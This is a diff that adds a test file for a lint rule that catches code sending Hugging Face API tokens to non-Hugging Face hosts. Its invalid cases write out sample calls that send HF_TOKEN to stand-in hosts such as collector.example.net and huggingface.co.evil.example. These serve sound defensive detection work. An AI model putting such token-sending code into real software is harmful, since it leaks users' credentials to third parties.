@@ -1,0 +1,126 @@
+import rule from "../../src/rules/no-token-to-third-party";
+import { ruleDocsUrl } from "../../src/util/create-rule";
+import { createRuleTester } from "../helpers/rule-tester";
+import { makeToken } from "../helpers/tokens";
+
+const ruleTester = createRuleTester();
+const TOKEN = makeToken(71);
+const docsUrl = ruleDocsUrl("no-token-to-third-party");
+
+function sent(client: string, host: string, source = "HF_TOKEN") {
+  return { messageId: "tokenSentToThirdParty", data: { client, source, host, docsUrl } } as const;
+}
+
+const BEARER = "`Bearer ${process.env.HF_TOKEN}`";
+
+ruleTester.run("no-token-to-third-party", rule, {
+  valid: [
+    // Hugging Face's own hosts.
+    `fetch("https://huggingface.co/api/whoami-v2", { headers: { Authorization: ${BEARER} } });`,
+    `fetch("https://router.huggingface.co/v1/chat/completions", { headers: { Authorization: ${BEARER} } });`,
+    `fetch("https://hf.co/api/models", { headers: { authorization: ${BEARER} } });`,
+    `fetch("https://my-space.hf.space/run", { headers: { Authorization: ${BEARER} } });`,
+    `fetch("https://abc123.us-east-1.aws.endpoints.huggingface.cloud", { headers: { Authorization: ${BEARER} } });`,
+    `new WebSocket(\`wss://api-inference.huggingface.co/ws?token=\${process.env.HF_TOKEN}\`);`,
+    // A URL the code does not spell out: no guessing.
+    `fetch(endpoint, { headers: { Authorization: ${BEARER} } });`,
+    `fetch(\`\${base}/v1/models\`, { headers: { Authorization: ${BEARER} } });`,
+    `fetch("https://api." + domain + "/x", { headers: { Authorization: ${BEARER} } });`,
+    `fetch("/api/proxy", { headers: { Authorization: ${BEARER} } });`,
+    // Another host, but no token sent.
+    `fetch("https://api.example.com/data", { headers: { Authorization: \`Bearer \${process.env.EXAMPLE_TOKEN}\` } });`,
+    `fetch("https://api.example.com/data", { headers: { "X-Has-Token": String(Boolean(process.env.HF_TOKEN)) } });`,
+    `axios.post("https://api.example.com/log", { event: "start" });`,
+    // A function that happens to be called request, with no host.
+    `request(options);`,
+    // The team's proxy, allowed by option.
+    {
+      code: `fetch("https://hf-proxy.internal.example.com/v1", { headers: { Authorization: ${BEARER} } });`,
+      options: [{ allowedHosts: ["*.internal.example.com"] }],
+    },
+  ],
+  invalid: [
+    {
+      name: "fetch with an Authorization header",
+      code: `fetch("https://api.example.com/v1/chat", { headers: { Authorization: ${BEARER} } });`,
+      errors: [sent("fetch", "api.example.com")],
+    },
+    {
+      name: "fetch with a Headers instance, from a const binding",
+      code: `const token = process.env.HF_TOKEN;\nawait fetch("https://collector.example.net/x", { method: "POST", headers: new Headers({ authorization: "Bearer " + token }) });`,
+      errors: [sent("fetch", "collector.example.net", "token")],
+    },
+    {
+      name: "Headers built from pairs",
+      code: `fetch("https://api.example.com", { headers: new Headers([["Authorization", \`Bearer \${process.env.HUGGINGFACEHUB_API_TOKEN}\`]]) });`,
+      errors: [sent("fetch", "api.example.com", "HUGGINGFACEHUB_API_TOKEN")],
+    },
+    {
+      name: "token in the query string",
+      code: `fetch(\`https://analytics.example.com/track?token=\${process.env.HF_TOKEN}\`);`,
+      errors: [sent("fetch", "analytics.example.com")],
+    },
+    {
+      name: "access_token in a concatenated URL",
+      code: `const { HF_TOKEN } = process.env;\nfetch("https://api.example.com/a?access_token=" + HF_TOKEN);`,
+      errors: [sent("fetch", "api.example.com")],
+    },
+    {
+      name: "axios with a config object",
+      code: `axios({ url: "https://api.example.com/x", headers: { Authorization: ${BEARER} } });`,
+      errors: [sent("axios", "api.example.com")],
+    },
+    {
+      name: "axios.post with data and config",
+      code: `axios.post("https://api.example.com/x", { q: 1 }, { headers: { Authorization: ${BEARER} } });`,
+      errors: [sent("axios.post", "api.example.com")],
+    },
+    {
+      name: "got",
+      code: `got.get("https://api.example.com/x", { headers: { authorization: ${BEARER} } });`,
+      errors: [sent("got.get", "api.example.com")],
+    },
+    {
+      name: "ky",
+      code: `ky("https://api.example.com/x", { headers: { Authorization: ${BEARER} } });`,
+      errors: [sent("ky", "api.example.com")],
+    },
+    {
+      name: "undici request",
+      code: `import { request } from "undici";\nawait request("https://api.example.com/x", { headers: { authorization: ${BEARER} } });`,
+      errors: [sent("request", "api.example.com")],
+    },
+    {
+      name: "new URL with the token in its query",
+      code: `const url = new URL(\`https://api.example.com/x?token=\${import.meta.env.HF_TOKEN}\`);`,
+      errors: [sent("new URL", "api.example.com")],
+    },
+    {
+      name: "WebSocket",
+      code: `new WebSocket(\`wss://stream.example.com/socket?token=\${process.env.HF_TOKEN}\`);`,
+      errors: [sent("new WebSocket", "stream.example.com")],
+    },
+    {
+      name: "a literal token",
+      code: `fetch("https://api.example.com/x", { headers: { Authorization: "Bearer ${TOKEN}" } });`,
+      errors: [sent("fetch", "api.example.com", "a literal token")],
+    },
+    {
+      name: "a look-alike host is not Hugging Face",
+      code: `fetch("https://huggingface.co.evil.example/x", { headers: { Authorization: ${BEARER} } });\nfetch("https://nothuggingface.co/x", { headers: { Authorization: ${BEARER} } });`,
+      errors: [sent("fetch", "huggingface.co.evil.example"), sent("fetch", "nothuggingface.co")],
+    },
+    {
+      name: "Deno's env and a .ts file",
+      filename: "client.ts",
+      code: `await fetch("https://api.example.com/x" as string, { headers: { Authorization: \`Bearer \${Deno.env.get("HF_TOKEN")}\` } as HeadersInit });`,
+      errors: [sent("fetch", "api.example.com")],
+    },
+    {
+      name: "an allowed host does not allow others",
+      code: `fetch("https://api.example.com/x", { headers: { Authorization: ${BEARER} } });`,
+      options: [{ allowedHosts: ["proxy.example.com"] }],
+      errors: [sent("fetch", "api.example.com")],
+    },
+  ],
+});
